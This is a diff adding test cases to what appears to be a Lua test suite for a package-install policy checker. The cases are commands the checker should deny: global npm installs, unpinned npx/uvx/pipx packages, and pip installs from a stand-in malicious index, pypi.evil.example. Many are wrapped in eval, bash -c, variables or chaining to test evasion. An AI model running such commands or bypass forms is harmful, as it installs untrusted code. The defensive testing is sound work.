@@ -53,6 +53,17 @@ local denied = {
   { "python -m pip install -ihttps://pypi.evil.example/simple x", "pypi.evil.example" },
   { "xargs -n1 npm install -g < tools.txt", "global install" },
   { "timeout 60 uvx ruff@latest check", "unpinned package ruff@latest" },
+  { "bash -c \"npm install -g typescript\"", "global install" },
+  { "npm install -\\g typescript", "global install" },
+  { "nice npx -y cowsay", "unpinned package cowsay" },
+  { "eval 'pip install --index-url https://pypi.evil.example/simple x'", "pypi.evil.example" },
+  { "npm install typescript --global", "global install" },
+  { "P=npx; $P cowsay hi", "unpinned package cowsay" },
+  { "pip3 install -i https://pypi.evil.example/simple requests", "pypi.evil.example" },
+  { "npm i -g typescript; echo done", "global install" },
+  { "true && pipx run black .", "unpinned package black" },
+  { "command npx cowsay", "unpinned package cowsay" },
+  { "uvx 'ruff' check .", "unpinned package ruff" },
 }
 
 for _, c in ipairs(denied) do
